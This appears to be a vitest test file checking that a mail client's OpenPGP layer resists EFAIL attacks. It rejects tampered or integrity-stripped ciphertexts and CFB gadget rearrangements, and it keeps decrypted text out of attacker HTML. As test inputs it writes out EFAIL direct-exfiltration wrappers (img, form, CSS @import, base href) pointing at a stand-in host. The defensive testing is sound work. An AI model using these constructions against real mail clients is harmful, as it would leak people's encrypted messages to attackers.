/** EFAIL (CVE-2017-17688, CVE-2017-17689): no plaintext without integrity, and what is decrypted is never joined with what stands outside. */
import {
  createMessage,
  encrypt,
  enums,
  readKey,
  readMessage,
  SymmetricallyEncryptedDataPacket,
  type Message,
} from 'openpgp'
import { randomBytes } from 'node:crypto'
import { beforeAll, describe, expect, it } from 'vitest'
import { findBlocks, readArmour } from '../../electron/core/pgp/armour.ts'
import { pgpConfig } from '../../electron/core/pgp/config.ts'
import {
  encrypted,
  mail,
  multipart,
  must,
  openHere,
  person,
  pgpMime,
  pgpMimeParts,
  textPart,
  type Person,
  onlyBytes,
} from '../material/pgp-people.ts'

import { literal, onePass, packet, sealedData, secret, sessionKeyPacket, signature } from '../material/pgp-forge.ts'

const signer = secret()
const SECRET = 'the secret words'
let alice: Person
let bob: Person
let armour: string

beforeAll(async () => {
  ;[alice, bob] = await Promise.all([person('Alice'), person('Bob')])
  armour = await encrypted(textPart(SECRET), [bob], null)
})

const unarmoured = (): Uint8Array => {
  const [block] = findBlocks(armour)
  return Uint8Array.from(readArmour(block?.inner ?? '').data)
}

const parse = (): Promise<Message<Uint8Array>> => readMessage({ binaryMessage: unarmoured() })

describe('OpenPGP.js is configured to refuse', () => {
  it('what has no integrity and what breaks the grammar', () => {
    expect(pgpConfig()).toMatchObject({
      allowUnauthenticatedMessages: false,
      allowUnauthenticatedStream: false,
      enforceGrammar: true,
    })
    expect(pgpConfig().maxDecompressedMessageSize).toBeLessThan(Infinity)
  })
})

describe('a changed ciphertext', () => {
  it.each([1, 20, 21, 40])('bit flipped %i bytes before its end shows nothing', async (distance) => {
    const bytes = unarmoured()
    bytes[bytes.length - distance] = (bytes[bytes.length - distance] ?? 0) ^ 1
    expect(await openHere(bytes, { own: [bob] })).toEqual({
      ok: false,
      problem: { code: 'message-tampered', params: {} },
    })
  })

  it('cut short shows nothing', async () => {
    const bytes = unarmoured()
    expect(bytes.length).toBeGreaterThan(100)
    for (const length of [bytes.length - 1, bytes.length - 22, bytes.length - 60]) {
      const result = await openHere(bytes.slice(0, length), { own: [bob] })
      expect(result).toMatchObject({ ok: false })
      expect(JSON.stringify(result)).not.toContain('secret')
    }
  })

  it('turned into a packet without integrity is refused before a key is used', async () => {
    const message = await parse()
    const protectedData = message.packets.findPacket(enums.packet.symEncryptedIntegrityProtectedData)
    const stripped = new SymmetricallyEncryptedDataPacket()
    // Body of tag 18 without its version octet: the old packet's form.
    stripped.read(toBody(protectedData?.write() ?? new Uint8Array()))
    message.packets.splice(message.packets.length - 1, 1, stripped)
    const result = await openHere(message.packets.write(), { own: [bob] })
    expect(result).toEqual({ ok: false, problem: { code: 'message-no-integrity', params: {} } })
  })

  it('made without integrity from the start is refused', async () => {
    const key = await readKey({ armoredKey: bob.armoredPublic })
    const message = await createMessage({ text: SECRET })
    const made = await readMessage({
      binaryMessage: onlyBytes(await encrypt({ message, encryptionKeys: key, format: 'binary' })),
    })
    const old = new SymmetricallyEncryptedDataPacket()
    old.read(new Uint8Array(80))
    made.packets.splice(made.packets.length - 1, 1, old)
    expect(await openHere(made.packets.write(), { own: [bob] })).toMatchObject({
      problem: { code: 'message-no-integrity' },
    })
  })
})

const toBody = (written: unknown): Uint8Array =>
  written instanceof Uint8Array ? written.subarray(1) : new Uint8Array()

describe('direct exfiltration: an image tag that is opened before and closed after the ciphertext', () => {
  const before = 'Content-Type: text/html\n\n<img src="http://canary.example/'
  const after = 'Content-Type: text/html\n\n">'

  it.each([
    [
      'a PGP/MIME mail between HTML parts',
      (text: string) => multipart('multipart/mixed', [before, pgpMime(text), after], 'outer'),
    ],
    [
      'the parts of a PGP/MIME mail themselves',
      (text: string) => multipart('multipart/mixed', [before, ...pgpMimeParts(text), after], 'outer'),
    ],
    [
      'three parts in multipart/encrypted',
      (text: string) => multipart('multipart/encrypted', [before, ...pgpMimeParts(text), after], 'outer'),
    ],
    [
      'an inline block between HTML parts',
      (text: string) => multipart('multipart/mixed', [before, textPart(text), after], 'outer'),
    ],
  ])('%s', async (_, wrap) => {
    const message = must(await openHere(mail('eve@example.org', wrap(armour)), { own: [bob], fileName: 'm.eml' }))
    expect(message.text).toContain(SECRET)
    expect(message.text).not.toContain('canary')
    expect(message.html ?? '').not.toMatch(/canary|secret/)
    expect(message.outside).not.toContain(SECRET)
    expect(message.protection).toMatchObject({ encrypted: true, signature: 'none' })
    expect(message.findings.map(({ code }) => code)).toContain('text-outside')
  })
})

it("what another message of ours holds is never shown with an attacker's signed text as one", async () => {
  const signed = await encrypted(textPart('agree?'), [bob], alice)
  const raw = mail('alice@example.org', multipart('multipart/mixed', [pgpMime(signed), pgpMime(armour)], 'outer'))
  const message = must(await openHere(raw, { own: [bob], known: [alice] }))
  expect(message).toMatchObject({ text: 'agree?', protection: { signature: 'partial' } })
  expect(message.outside).toContain(SECRET)
})

describe('gadgets: ciphertext that was changed or rearranged without the key', () => {
  const inner = Buffer.concat([onePass(signer), literal(textPart(SECRET)), signature(signer, textPart(SECRET))])

  it.each<[string, (data: Buffer) => Uint8Array]>([
    ['a block doubled', (data) => Buffer.concat([data.subarray(0, 39), data.subarray(23, 39), data.subarray(39)])],
    [
      'two blocks exchanged',
      (data) => Buffer.concat([data.subarray(0, 23), data.subarray(39, 55), data.subarray(23, 39), data.subarray(55)]),
    ],
    ['a block of zeros put in', (data) => Buffer.concat([data.subarray(0, 39), Buffer.alloc(16), data.subarray(39)])],
    ['the integrity check cut off', (data) => data.subarray(0, -22)],
    ['the integrity check doubled', (data) => Buffer.concat([data, data.subarray(-22)])],
    ['the beginning alone', (data) => data.subarray(0, 60)],
    [
      'a known header xored into another (the CFB gadget)',
      (data) => data.map((byte, at) => (at >= 25 && at < 41 ? byte ^ 0x5a : byte)),
    ],
    ['version 2 instead of 1', (data) => data.map((byte, at) => (at === 0 ? 2 : byte))],
    ['version 0', (data) => data.map((byte, at) => (at === 0 ? 0 : byte))],
  ])('%s shows nothing', async (_, change) => {
    const key = randomBytes(32)
    const body = sealedData(inner, key).subarray(6)
    const keys = await sessionKeyPacket(key, bob)
    const open = (data: Uint8Array) => openHere(new Uint8Array(Buffer.concat([keys, packet(18, data)])), { own: [bob] })
    expect(must(await open(body)).text).toContain(SECRET)
    const result = await open(change(Buffer.from(body)))
    expect(result.ok).toBe(false)
    expect(JSON.stringify(result)).not.toContain('secret')
  })

  it.each([
    ['the old packet', 9],
    ["LibrePGP's packet", 20],
    ['a compressed packet', 8],
    ['a literal packet', 11],
    ['a marker', 10],
  ])('the same octets as %s show nothing', async (_, tag) => {
    const key = randomBytes(32)
    const keys = await sessionKeyPacket(key, bob)
    for (const body of [sealedData(inner, key).subarray(6), sealedData(inner, key).subarray(7)]) {
      const result = await openHere(new Uint8Array(Buffer.concat([keys, packet(tag, body)])), { own: [bob] })
      expect(JSON.stringify(result)).not.toContain('secret')
      expect(result.ok).toBe(false)
    }
  })

  it("a stranger's session keys before ours, and hidden ones, change nothing", async () => {
    const key = randomBytes(32)
    const other = await sessionKeyPacket(randomBytes(32), bob)
    const parts = [other, await sessionKeyPacket(randomBytes(32), alice, true), await sessionKeyPacket(key, bob, true)]
    const message = Buffer.concat([...parts, sealedData(inner, key)])
    expect(must(await openHere(new Uint8Array(message), { own: [alice, bob] })).text).toContain(SECRET)
  })
})

describe('the hidden form: ciphertext in a part that looks like nothing', () => {
  it.each<[string, (text: string) => string]>([
    [
      'in an HTML part',
      (text) =>
        `Content-Type: text/html\n\n<form action="http://canary.example/"><textarea name=a>\n${text}\n</textarea></form>`,
    ],
    [
      'in a style',
      (text) => `Content-Type: text/html\n\n<style>@import url("http://canary.example/?\n${text}\n");</style>`,
    ],
    [
      'in an attachment that is shown in a frame',
      (text) =>
        multipart(
          'multipart/related',
          [
            `Content-Type: text/html\n\n<iframe src="cid:x"></iframe><img src="http://canary.example/`,
            `Content-ID: <x>\nContent-Type: text/plain\n\n${text}`,
          ],
          'rel',
        ),
    ],
    [
      'in a quoted-printable HTML part',
      (text) =>
        `Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<img src=3D"http://canary.example/=\n${text.replaceAll('=', '=3D')}">`,
    ],
    ['in a forwarded mail', (text) => `Content-Type: message/rfc822\n\n${mail('eve@example.org', pgpMime(text))}`],
  ])('%s: no HTML that is shown holds the words', async (_, wrap) => {
    const message = must(await openHere(mail('eve@example.org', wrap(armour)), { own: [bob], fileName: 'm.eml' }))
    expect(message.html ?? '').not.toContain(SECRET)
    if (message.text.includes(SECRET)) expect(message.html ?? '').not.toContain('canary')
    expect(message.outside).not.toContain(SECRET)
  })

  it('HTML inside the encryption is shown without any that stands outside', async () => {
    const html = await encrypted(`Content-Type: text/html\n\n<p>${SECRET}</p>`, [bob], null)
    const raw = multipart(
      'multipart/mixed',
      [
        'Content-Type: text/html\n\n<base href="http://canary.example/"><a href="',
        pgpMime(html),
        'Content-Type: text/html\n\n">',
      ],
      'o',
    )
    const message = must(await openHere(mail('eve@example.org', raw), { own: [bob], fileName: 'm.eml' }))
    expect(message.html).toBe(`<p>${SECRET}</p>`)
  })
})
